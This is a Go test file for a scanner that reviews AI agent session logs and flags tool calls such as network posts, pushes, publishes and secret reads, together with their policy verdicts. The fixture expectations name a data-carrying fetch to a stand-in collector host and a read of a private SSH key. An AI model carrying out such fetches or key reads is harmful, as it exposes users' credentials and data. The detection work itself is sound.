package scan

import (
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/classify"
	"github.com/airlock-dev/airlock/internal/policy"
)

func TestStructured(t *testing.T) {
	cases := []struct {
		file     string
		format   Format
		session  string
		wants    []want
		warnings int
	}{
		{"stream-json/release.jsonl", StreamJSON, "s-stream-1", []want{
			// A real executed curl -X POST: accepted by the hook, result present.
			{5, Executed, "tool.Bash", "curl -X POST https://api.example.com/v1/items"},
			// Refused by a hook: permission_denied and permission_denials.
			{7, Denied, "tool.Bash", "git push origin main"},
			// A release script whose output shows a publish.
			{10, Executed, "output.npm-publish", "./scripts/release.sh"},
			{13, Executed, "tool.mcp", "mcp__slack__post_message"},
			// A fetch whose URL carries data; the plain fetch before it is not a finding.
			{15, Executed, "tool.WebFetch", "https://collector.example.net/c?d="},
			// A result whose text reads like a refusal, with no refusal
			// marker: the text is the command's own output, so it ran.
			{17, Executed, "tool.Bash", "git -C ../mirror push"},
			// Deferred by a hook: held, not run.
			{19, Denied, "tool.Bash", "npm publish --access public"},
		}, 1},
		{"transcript/session.jsonl", Transcript, "s-tr-1", []want{
			{6, Executed, "tool.Bash", "curl -X POST https://api.example.com/v1/releases"},
			{9, Denied, "tool.Bash", "git push origin main"},
			{11, Executed, "tool.Read", "Read /home/dev/.ssh/id_ed25519"},
			{13, Executed, "tool.Bash", "git commit -am"},
			{15, NoResult, "tool.Bash", "gh release create v1.2.0"},
			// Lines 16-17: a Read of a log that quotes npm's publish output
			// is no finding; only tools that run things count their output.
		}, 0},
	}
	for _, c := range cases {
		t.Run(c.file, func(t *testing.T) {
			res := scanFile(t, c.file)
			if res.Format != c.format {
				t.Errorf("format %s, want %s", res.Format, c.format)
			}
			if res.Session != c.session {
				t.Errorf("session %q, want %q", res.Session, c.session)
			}
			checkFindings(t, res, c.wants)
			if len(res.Warnings) != c.warnings {
				t.Errorf("%d warnings, want %d: %+v", len(res.Warnings), c.warnings, res.Warnings)
			}
			for _, f := range res.Findings {
				if f.ToolUseID == "" || f.Session != c.session {
					t.Errorf("line %d: tool_use_id %q session %q", f.Line, f.ToolUseID, f.Session)
				}
			}
		})
	}
}

// TestStructuredVerdicts checks that a finding carries the policy's
// verdict: tier, flags and the classifier's reasons.
func TestStructuredVerdicts(t *testing.T) {
	res := scanFile(t, "transcript/session.jsonl")
	curl := res.Findings[0]
	if curl.Verdict.Effect.Tier != classify.External || curl.Verdict.Decision != policy.Ask {
		t.Errorf("curl: %s %s, want external ask", curl.Verdict.Effect.Label(), curl.Verdict.Decision)
	}
	if len(curl.Verdict.Reasons) == 0 || !strings.HasPrefix(curl.Verdict.Reasons[0].Rule, "curl.") {
		t.Errorf("curl reasons: %+v", curl.Verdict.Reasons)
	}
	if curl.Action.Kind != policy.Shell || curl.Cwd != "/work/app" {
		t.Errorf("curl action %+v cwd %q", curl.Action, curl.Cwd)
	}
	read := res.Findings[2]
	// The built-in policy is interactive: a secret read is asked there.
	if read.Verdict.Decision != policy.Ask || !strings.HasPrefix(read.Verdict.Rule, "builtin.secrets") {
		t.Errorf("read of a key: %s %s", read.Verdict.Decision, read.Verdict.Rule)
	}
	denied := res.Findings[1]
	if denied.Evidence == nil || denied.Evidence.Kind != "denial" || !strings.Contains(denied.Evidence.Text, "user-rejected") {
		t.Errorf("denial evidence: %+v", denied.Evidence)
	}
}

// TestDetect names the format from the first line only.
func TestDetect(t *testing.T) {
	cases := []struct {
		in   string
		want Format
	}{
		{"", Text},
		{"hello\n", Text},
		{"\xef\xbb\xbf\n\n  {\"type\":\"summary\",\"leafUuid\":\"x\"}\n", Transcript},
		{`{"parentUuid":null,"sessionId":"s","type":"user"}` + "\n", Transcript},
		{`{"type":"system","subtype":"init","session_id":"s"}` + "\n", StreamJSON},
		{`{"type":"assistant","parent_tool_use_id":null}`, StreamJSON},
		{`{"some":"other json"}` + "\n", Text},
		{"[1,2,3]\n", Text},
	}
	for _, c := range cases {
		var s Scanner
		res, err := s.Scan(strings.NewReader(c.in), "t")
		if err != nil {
			t.Fatal(err)
		}
		if res.Format != c.want {
			t.Errorf("%q: %s, want %s", c.in, res.Format, c.want)
		}
	}
}
